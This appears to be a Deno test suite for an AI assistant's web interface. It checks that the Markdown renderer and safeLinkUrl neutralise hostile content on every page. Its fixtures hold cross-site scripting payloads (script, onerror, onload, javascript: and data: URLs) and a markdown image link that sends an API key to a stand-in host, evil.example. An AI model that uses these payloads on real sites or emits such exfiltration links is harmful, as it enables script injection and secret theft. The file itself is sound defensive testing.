import assert from "node:assert/strict";
import { Markdown, safeLinkUrl } from "../../web/views/markdown.tsx";
import * as fakes from "../fakes/web_views.ts";
import { createWebFixture, postForm } from "./web_fixture.ts";

const hostile = [
  `<script>alert("x")</script>`,
  `<img src=x onerror="alert(1)">`,
  `[click](javascript:alert(1))`,
  `![leak](https://evil.example/collect?secret=API_KEY)`,
  `"><svg onload=alert(1)>`,
].join("\n\n");

/** Fails when any hostile markup survived as markup. */
function assertInert(html: string, where: string): void {
  assert.doesNotMatch(html, /<script>alert/i, `${where}: script tag`);
  assert.doesNotMatch(html, /<img\b/i, `${where}: img tag`);
  assert.doesNotMatch(html, /<svg\b/i, `${where}: svg tag`);
  assert.doesNotMatch(html, /href="javascript:/i, `${where}: javascript: link`);
  assert.doesNotMatch(
    html,
    /(src|href)="[^"]*evil\.example/i,
    `${where}: remote URL loaded or linked`,
  );
  for (const tag of html.match(/<[a-z][^<>]*>/gi) ?? []) {
    const withoutValues = tag.replace(/"[^"]*"/g, '""');
    assert.doesNotMatch(withoutValues, /\son[a-z]+\s*=/i, `${where}: event handler in ${tag}`);
  }
}

async function render(node: unknown): Promise<string> {
  return String(await node);
}

Deno.test("Markdown: raw HTML stays text, unsafe links lose their href, images are never loaded", async () => {
  const html = await render(Markdown({ text: hostile }));
  assertInert(html, "markdown");
  assert.match(html, /&lt;script&gt;/);
  assert.match(html, /\[image not loaded: leak\]/);
  const safe = await render(
    Markdown({ text: "See [docs](https://deno.com/manual) and https://example.com/a." }),
  );
  assert.match(safe, /<a href="https:\/\/deno.com\/manual" rel="noopener noreferrer nofollow"/);
  assert.match(safe, /<a href="https:\/\/example.com\/a"[^>]*>https:\/\/example.com\/a<\/a>\./);
  const rich = await render(
    Markdown({ text: "# Title\n\n- one\n- **two**\n\n```\n<b>x</b>\n```\n\n> quote" }),
  );
  assert.match(rich, /<h3>Title<\/h3>/, "a model's # never outranks the page title");
  assert.match(rich, /<li><strong>two<\/strong><\/li>/);
  assert.match(rich, /<pre><code>&lt;b&gt;x&lt;\/b&gt;\n<\/code><\/pre>/);
  assert.match(rich, /<blockquote>\n<p>quote<\/p>\n<\/blockquote>/);
});

Deno.test("Markdown (markdown-it): autolinks, entities, odd spellings and reference links stay safe", async () => {
  const tricks = [
    "[a](javascript:alert(1))",
    "[b](JAVASCRIPT:alert(1))",
    "[c]( javascript:alert(1))",
    "[d](&#106;avascript:alert(1))",
    "[e](java&#x09;script:alert(1))",
    "[f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[g](vbscript:msgbox(1))",
    "[h](/relative/path) [i](//evil.example/x)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "![img][2]\n\n[2]: https://evil.example/pixel.png",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "www.evil.example and evil.example/path stay text",
    "<a href='https://other.example'>x</a> <iframe src=https://other.example></iframe>",
  ].join("\n\n");
  const html = await render(Markdown({ text: tricks }));
  assertInert(html, "markdown tricks");
  assert.doesNotMatch(html, /href="(?!https?:|mailto:)/i, "only http(s) and mailto hrefs");
  assert.doesNotMatch(html, /<(iframe|img)\b/i);
  assert.match(html, /&lt;script&gt;alert\(1\)/, "entities decode to text, then escape again");
  const fine = await render(
    Markdown({
      text: "<https://ok.example/x> and <mailto:me@example.com>\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    }),
  );
  assert.match(fine, /<a href="https:\/\/ok.example\/x" rel="noopener noreferrer nofollow"/);
  assert.match(fine, /<a href="mailto:me@example.com"/);
  assert.match(fine, /<table>/);
});

Deno.test("safeLinkUrl keeps http(s) and mailto only", () => {
  assert.equal(safeLinkUrl("https://example.com/x?y=1"), "https://example.com/x?y=1");
  assert.equal(safeLinkUrl("mailto:me@example.com"), "mailto:me@example.com");
  for (
    const bad of [
      "javascript:alert(1)",
      " JavaScript:alert(1)",
      "data:text/html,<b>",
      "vbscript:x",
      "//evil",
      "/local",
      "java\tscript:alert(1)",
    ]
  ) {
    assert.equal(safeLinkUrl(bad), undefined, bad);
  }
});

Deno.test("hostile text from facts, conversations, tools, tasks, plugins and logs renders inert on every page", async () => {
  const daemon = new fakes.FakeDaemonView();
  daemon.last = fakes.heartbeatRun({
    startedAt: "2026-11-22T09:00:00Z",
    reason: hostile,
    answer: hostile,
  });
  daemon.events = [{
    id: 1,
    source: hostile,
    kind: hostile,
    summary: hostile,
    urgent: false,
    createdAt: "2026-11-22T09:00:00Z",
  }];
  daemon.notifications = [{
    at: "2026-11-22T09:00:00Z",
    title: hostile,
    body: hostile,
    delivered: false,
    delivery: "undeliverable",
    detail: hostile,
  }];
  daemon.tasksList = [fakes.taskRecord({
    id: 1,
    name: hostile,
    schedule: hostile,
    message: hostile,
    lastOutcome: hostile,
  })];
  daemon.monitorsList = [fakes.monitorRecord({
    id: 1,
    name: hostile,
    url: hostile,
    selector: hostile,
    lastResult: hostile,
  })];
  const plugins = new fakes.FakePluginsView(
    [{
      summary: {
        name: "x",
        version: hostile,
        description: hostile,
        trustLevel: "local",
        status: "enabled",
        tools: [hostile],
      },
      permissions: [hostile],
    }],
    [fakes.pendingPlugin({ name: "y", version: "1", description: hostile, trustLevel: "sandbox" }, {
      files: { [hostile]: hostile },
      warnings: [hostile],
      review: {
        name: "y",
        source: "install",
        filesHash: "x",
        errors: [],
        tests: [{ name: hostile, passed: false, detail: hostile }],
        attempts: 0,
        updatedAt: "2026-11-22T09:00:00Z",
      },
      permissionDiff: {
        sinceApproval: true,
        added: [{ kind: "read", target: hostile, description: hostile }],
        removed: [{ kind: "read", target: hostile, description: hostile }],
        unchanged: [{ kind: "read", target: hostile, description: hostile }],
      },
    })],
  );
  const logs = new fakes.FakeLogsView([hostile], [{
    id: 1,
    at: "2026-11-22T09:00:00Z",
    tool: hostile,
    arguments: hostile,
    durationMs: 1,
    outcome: "error",
    result: hostile,
  }]);
  const fixture = createWebFixture({ extra: { daemon, plugins, logs } });
  try {
    const { conversations, facts, clock } = fixture;
    const fact = facts.addFact({ category: "learned_fact", content: hostile }, clock.now());
    const id = conversations.createConversation("chat", hostile, clock.now());
    conversations.appendMessage(id, { role: "user", content: hostile, createdAt: clock.now() });
    conversations.appendMessage(id, {
      role: "assistant",
      content: hostile,
      toolCalls: [{ id: "c", name: hostile, arguments: hostile }],
      createdAt: clock.now(),
    });
    conversations.appendMessage(id, {
      role: "tool",
      content: hostile,
      toolCallId: "c",
      toolName: hostile,
      createdAt: clock.now(),
    });
    for (
      const path of [
        "/",
        "/chat",
        `/chat?c=${id}`,
        "/history",
        `/history/${id}`,
        "/history/list?q=script",
        "/memory",
        "/memory/results?q=alert",
        `/memory/${fact}/edit`,
        "/tasks",
        "/plugins",
        "/plugins/review",
        "/logs",
        `/logs/entries?filter=alert`,
      ]
    ) {
      const response = await fixture.app.request(path);
      assert.equal(response.status, 200, path);
      assertInert(await response.text(), path);
    }
    const sent = await fixture.app.request(
      "/chat/send",
      postForm({ message: hostile }, { "HX-Request": "true" }),
    );
    assertInert(await sent.text(), "/chat/send");
    const search = await fixture.app.request(`/history?q=${encodeURIComponent(hostile)}`);
    assertInert(await search.text(), "/history?q=");
  } finally {
    fixture.close();
  }
});
